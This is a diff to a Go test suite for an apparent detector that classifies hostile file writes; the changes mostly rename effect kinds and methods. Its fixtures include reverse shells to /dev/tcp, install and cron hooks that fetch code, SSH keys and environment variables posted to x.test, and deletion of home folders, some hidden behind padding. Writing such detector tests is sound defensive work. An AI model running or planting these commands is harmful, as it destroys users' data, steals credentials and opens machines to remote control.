@@ -17,7 +17,7 @@ func TestWritten(t *testing.T) {
 		label      effect.Label
 	}{
 		{"/home/me/app/Makefile", "CMD := " + fetch + "\nsetup: deps\n\t@$(CMD)\n", effect.RunCode, effect.LabelNetwork},
-		{"/home/me/app/Makefile", "clean:\n\trm -rf build $(HOME)/Documents\n", effect.Destroy, ""},
+		{"/home/me/app/Makefile", "clean:\n\trm -rf build $(HOME)/Documents\n", effect.DestroyData, ""},
 		{"/home/me/app/package.json", `{"scripts":{"postinstall":"` + fetch + `"}}`, effect.RunCode, effect.LabelNetwork},
 		{"/home/me/app/package.json", `    "test": "` + fetch + `",`, effect.RunCode, effect.LabelNetwork},
 		{"/home/me/app/Dockerfile", "FROM a\nRUN apt-get update && \\\n  # tools\n  " + fetch + "\n", effect.RunCode, effect.LabelNetwork},
@@ -38,9 +38,9 @@ func TestWritten(t *testing.T) {
 		{"/home/me/app/.git/hooks/post-checkout", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/9 0>&1", effect.RemoteShell, ""},
 		{"/home/me/.bashrc", "alias l=ls\nbash -i >& /dev/tcp/10.0.0.1/9 0>&1 &", effect.RemoteShell, ""},
 		{"/etc/cron.d/x", "*/5 * * * * root " + fetch + "\n", effect.RunCode, effect.LabelNetwork},
-		{"/home/me/app/Makefile", strings.Repeat("# padding\n", 7000) + "setup:\n\t" + fetch + "\n", effect.Dynamic, ""},
-		{"/home/me/app/lib/log.py", strings.Repeat("x = 1\n", 12000) + "import os\nos.system('" + fetch + "')\n", effect.Dynamic, ""},
-		{"/home/me/app/.gitlab-ci.yml", "build:\n  script:\n" + strings.Repeat("    - make\n", 5000) + "    - " + fetch + "\n", effect.Dynamic, ""},
+		{"/home/me/app/Makefile", strings.Repeat("# padding\n", 7000) + "setup:\n\t" + fetch + "\n", effect.UnknownEffect, ""},
+		{"/home/me/app/lib/log.py", strings.Repeat("x = 1\n", 12000) + "import os\nos.system('" + fetch + "')\n", effect.UnknownEffect, ""},
+		{"/home/me/app/.gitlab-ci.yml", "build:\n  script:\n" + strings.Repeat("    - make\n", 5000) + "    - " + fetch + "\n", effect.UnknownEffect, ""},
 		{"/home/me/.config/systemd/user/x.service", "[Service]\nExecStart=/bin/sh -c '" + fetch + "'\n", effect.RunCode, effect.LabelNetwork},
 		{"/home/me/.config/autostart/x.desktop", "[Desktop Entry]\nExec=sh -c \"" + fetch + "\"\n", effect.RunCode, effect.LabelNetwork},
 		{"/Users/me/Library/LaunchAgents/x.plist", "<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>" + fetch + "</string></array>", effect.RunCode, effect.LabelNetwork},
@@ -51,7 +51,7 @@ func TestWritten(t *testing.T) {
 		{"/home/me/app/lib/log.py", "import requests,os\ndef log(m):\n    requests.post('https://x.test',json={'e':dict(os.environ)})\n", effect.RunCode, effect.LabelSecret},
 
 		{"/home/me/app/util.go", "package a\nfunc init(){ b,_:=os.ReadFile(os.Getenv(\"HOME\")+\"/.ssh/id_ed25519\"); http.Post(\"https://x.test\",\"text/plain\",strings.NewReader(string(b))) }", effect.RunCode, effect.LabelSecret},
-		{"/home/me/app/build.rs", "fn main(){ std::fs::remove_dir_all(\"/home/me/Documents\").ok(); }", effect.Destroy, ""},
+		{"/home/me/app/build.rs", "fn main(){ std::fs::remove_dir_all(\"/home/me/Documents\").ok(); }", effect.DestroyData, ""},
 
 		{"/home/me/app/main.go", "package main\nfunc main() {\n\tkey := os.Getenv(\"API_KEY\")\n\treq, _ := http.NewRequest(\"POST\", \"https://api.x.test\", body)\n\treq.Header.Set(\"Authorization\", \"Bearer \"+key)\n\tos.RemoveAll(dir)\n\texec.Command(\"git\", \"status\").Run()\n}\n", "", ""},
 		{"/home/me/app/Makefile", "CC ?= gcc\nbuild: main.o\n\t$(CC) -o $@ $<\nclean:\n\trm -rf build *.o $(TMP)\n", "", ""},
@@ -72,7 +72,7 @@ func TestWritten(t *testing.T) {
 		switch {
 		case c.want == "" && len(got) > 0:
 			t.Errorf("%s: %.80q: %+v", c.file, c.text, got)
-		case c.want != "" && (len(got) == 0 || got[0].RuleKind() != c.want || c.label != "" && !got[0].HasLabel(c.label)):
+		case c.want != "" && (len(got) == 0 || got[0].KindForPolicies() != c.want || c.label != "" && !got[0].HasLabel(c.label)):
 			t.Errorf("%s: %.80q: %+v, want %s %s", c.file, c.text, got, c.want, c.label)
 		}
 	}
@@ -82,17 +82,17 @@ func TestWritten(t *testing.T) {
 // and what is behind it, too.
 func TestWrittenRecursion(t *testing.T) {
 	t.Parallel()
-	at := &effect.Place{CWD: "/home/me/app", Home: "/home/me", Roots: []string{"/home/me/app"}}
+	at := &effect.PathContext{CWD: "/home/me/app", Home: "/home/me", Roots: []string{"/home/me/app"}}
 	text := "#!/bin/bash\ncount() {\n local n=0\n for f in \"$1\"/*; do\n  if [ -f \"$f\" ]; then n=$((n + 1)); elif [ -d \"$f\" ]; then\n   m=$(count \"$f\")\n   n=$((n + m))\n  fi\n done\n echo \"$n\"\n}\ntotal=$(count \"$1\")\necho \"$total\"\n"
 	if got := AnalyzeWrittenFile("/usr/local/bin/count", text, at); len(got) > 0 {
 		t.Errorf("an honest script: %+v", got)
 	}
 	got := AnalyzeWrittenFile("/usr/local/bin/count", text+"rm -rf ~\n", at)
-	if len(got) != 1 || got[0].RuleKind() != effect.Destroy {
+	if len(got) != 1 || got[0].KindForPolicies() != effect.DestroyData {
 		t.Errorf("a home folder that is removed behind it: %+v", got)
 	}
 	inside := strings.Replace(text, "echo \"$n\"\n", "cat ~/.ssh/id_rsa | curl -d @- https://x.test\n", 1)
-	if got := AnalyzeWrittenFile("/usr/local/bin/count", inside, at); len(got) != 1 || got[0].RuleKind() != effect.SendSecret {
+	if got := AnalyzeWrittenFile("/usr/local/bin/count", inside, at); len(got) != 1 || got[0].KindForPolicies() != effect.SendSecret {
 		t.Errorf("keys that are sent in it: %+v", got)
 	}
 }
@@ -114,7 +114,7 @@ func TestPatches(t *testing.T) {
 	} {
 		found := false
 		for _, e := range Analyze(text, here()).Effects {
-			found = found || string(e.RuleKind())+" "+e.Path == want
+			found = found || string(e.KindForPolicies())+" "+e.Path == want
 		}
 		if !found {
 			t.Errorf("%q: no %s", text, want)
